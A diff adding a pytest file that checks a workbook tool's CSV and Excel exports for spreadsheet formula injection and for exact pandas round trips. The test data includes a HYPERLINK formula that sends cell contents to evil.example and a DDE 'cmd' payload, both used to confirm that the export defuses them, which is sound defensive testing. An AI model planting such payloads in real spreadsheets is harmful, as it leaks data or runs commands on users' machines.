@@ -1,0 +1,166 @@
+"""CSV and Excel tables: every table written, formulas defused, and a faithful pandas round trip."""
+
+from __future__ import annotations
+
+import datetime as dt
+
+import pandas as pd
+import pytest
+from openpyxl import load_workbook
+
+from workbook import ActionItem, HealthCheck, Meeting, Organisation, Person, Resource
+from workbook.export.tables import (
+    FORMULA_STARTS,
+    collect_tables,
+    export_tables,
+    guard,
+    unguard,
+)
+from workbook.testing import add_action, add_meeting, add_organisation, add_person, add_resource
+
+TABLES = ("organisations", "people", "meetings", "attendance", "resources", "problem_tree",
+          "solutions", "actions", "health_checks")
+TRICKY = [
+    "=1+2", "+SUM(A1:A9)", "-2+3", "@cmd", "\tindented", "\rcarriage", "'quoted already",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "Plain, with a comma", 'Say "hi"',
+    "Line one\nLine two", "Zoë ✓ 👩🏽‍🔧", "  spaced  ", "0042", "1e5", "TRUE", "NaN", "",
+]
+
+
+def read_csv(path):
+    frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    return frame.map(unguard)
+
+
+@pytest.fixture
+def tricky_wb(wb):
+    """A workbook whose text fields hold formula starters and other awkward values."""
+    org_ids = []
+    for index, text in enumerate(TRICKY):
+        org = wb.add(Organisation(name=f"Org {index}", mission=text, needs=text))
+        org_ids.append(org.id)
+    meeting = add_meeting(wb, decisions=("=cmd|' /C calc'!A0", "Second decision"),
+                          notes="-10 people came")
+    person = add_person(wb, org_ids[0], role="@boss")
+    add_action(wb, action="=2*3", owner_id=person.id, meeting_id=meeting.id,
+               due_on=dt.date.today() - dt.timedelta(days=3))
+    add_resource(wb, name="+Resource", target_group="Line one\nLine two")
+    wb.add(HealthCheck(organisation_id=org_ids[1], checked_on=dt.date.today(), services=2,
+                       goals=1, notes="=NOW()"))
+    return wb
+
+
+def test_guard_defuses_every_formula_start_and_is_reversible():
+    """Each formula starter gets one apostrophe; unguard restores the exact text."""
+    for start in FORMULA_STARTS:
+        assert guard(f"{start}x") == f"'{start}x"
+    assert guard("'already") == "''already"
+    assert guard("plain") == "plain" and guard(42) == 42 and guard(None) is None
+    for text in TRICKY:
+        assert unguard(guard(text)) == text
+
+
+def test_export_tables_writes_each_csv_and_one_excel(tricky_wb, tmp_path):
+    """Every table becomes a CSV and a sheet of tables.xlsx, with the same columns."""
+    folder = export_tables(tricky_wb, tmp_path)
+    assert folder.parent.parent == tmp_path and folder.name.startswith("tables-")
+    assert sorted(p.stem for p in folder.glob("*.csv")) == sorted(TABLES)
+    book = load_workbook(folder / "tables.xlsx", read_only=True)
+    assert book.sheetnames == list(TABLES)
+    for table in collect_tables(tricky_wb):
+        header = next(book[table.name].iter_rows(max_row=1, values_only=True))
+        assert tuple(header) == table.columns
+        assert tuple(pd.read_csv(folder / f"{table.name}.csv", nrows=0,
+                                 encoding="utf-8-sig").columns) == table.columns
+
+
+def test_no_cell_starts_with_a_formula_character(tricky_wb, tmp_path):
+    """Neither the CSV text nor any Excel cell begins with = + - @ tab or CR; no formulas."""
+    folder = export_tables(tricky_wb, tmp_path)
+    for path in folder.glob("*.csv"):
+        frame = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+        for value in frame.to_numpy().ravel():
+            assert not value.startswith(FORMULA_STARTS), (path.name, value)
+    book = load_workbook(folder / "tables.xlsx")
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(FORMULA_STARTS)
+
+
+def test_csv_round_trip_into_pandas_preserves_text_exactly(tricky_wb, tmp_path):
+    """Read back with dtype=str and unguard, every text value equals the stored one."""
+    folder = export_tables(tricky_wb, tmp_path)
+    orgs = read_csv(folder / "organisations.csv").set_index("id")
+    for org in tricky_wb.all(Organisation):
+        row = orgs.loc[str(org.id)]
+        assert row["mission"] == org.mission and row["needs"] == org.needs
+        assert row["name"] == org.name
+    meetings = read_csv(folder / "meetings.csv")
+    meeting = tricky_wb.all(Meeting)[0]
+    assert meetings.loc[0, "decisions"].split("\n") == list(meeting.decisions)
+    assert meetings.loc[0, "notes"] == meeting.notes
+    assert meetings.loc[0, "held_on"] == meeting.held_on.isoformat()
+    people = read_csv(folder / "people.csv")
+    assert people.loc[0, "role"] == tricky_wb.all(Person)[0].role
+
+
+def test_csv_round_trip_keeps_numbers_dates_and_flags(tricky_wb, tmp_path):
+    """Read with default types, ids stay integers, flags booleans, dates ISO text."""
+    folder = export_tables(tricky_wb, tmp_path)
+    actions = pd.read_csv(folder / "actions.csv", encoding="utf-8-sig")
+    stored = tricky_wb.all(ActionItem)[0]
+    assert actions["id"].tolist() == [stored.id]
+    assert actions.loc[0, "overdue"] is True or actions.loc[0, "overdue"] == True  # noqa: E712
+    assert actions.loc[0, "due_on"] == stored.due_on.isoformat()
+    checks = pd.read_csv(folder / "health_checks.csv", encoding="utf-8-sig")
+    check = tricky_wb.all(HealthCheck)[0]
+    assert checks.loc[0, "score"] == check.score and checks.loc[0, "services"] == 2
+    assert unguard(checks.loc[0, "notes"]) == "=NOW()"
+
+
+def test_excel_round_trip_into_pandas(tricky_wb, tmp_path):
+    """Excel sheets read by pandas give the stored text (unguarded), ints and real dates.
+
+    The one difference from CSV: xlsx stores text as XML, which reads a carriage return
+    back as a line feed."""
+    folder = export_tables(tricky_wb, tmp_path)
+    sheets = pd.read_excel(folder / "tables.xlsx", sheet_name=None, keep_default_na=False)
+    orgs = sheets["organisations"].set_index("id")
+    for org in tricky_wb.all(Organisation):
+        expected = org.mission.replace("\r\n", "\n").replace("\r", "\n")
+        assert unguard(orgs.loc[org.id, "mission"]) == expected
+    actions = sheets["actions"]
+    stored = tricky_wb.all(ActionItem)[0]
+    assert actions.loc[0, "due_on"].date() == stored.due_on
+    assert unguard(actions.loc[0, "action"]) == stored.action == "=2*3"
+    resources = sheets["resources"]
+    resource = tricky_wb.all(Resource)[0]
+    assert unguard(resources.loc[0, "name"]) == resource.name
+    assert resources.loc[0, "target_group"] == resource.target_group
+
+
+def test_problem_tree_rows_follow_the_outline(wb):
+    """Causes come in outline order with their depth; a problem without causes still shows."""
+    from workbook.testing import add_problem_tree
+
+    tree = add_problem_tree(wb, depth=3, branches=2)
+    lonely = add_problem_tree(wb, depth=0)
+    table = next(t for t in collect_tables(wb) if t.name == "problem_tree")
+    rows = [dict(zip(table.columns, r, strict=True)) for r in table.rows]
+    mine = [r for r in rows if r["problem_id"] == tree.problem.id]
+    assert [r["depth"] for r in mine] == [1, 2, 3, 1, 2, 3]
+    assert [r["is_root"] for r in mine] == [False, False, True] * 2
+    assert [r["cause_id"] for r in rows if r["problem_id"] == lonely.problem.id] == [None]
+
+
+def test_actions_table_names_owner_and_partner(wb):
+    """Ids are joined to names so the table reads without a lookup."""
+    org = add_organisation(wb, name="Millrace")
+    owner = add_person(wb, org, name="Ray")
+    add_action(wb, owner_id=owner.id)
+    table = next(t for t in collect_tables(wb) if t.name == "actions")
+    row = dict(zip(table.columns, table.rows[0], strict=True))
+    assert (row["owner"], row["organisation"]) == ("Ray", "Millrace")
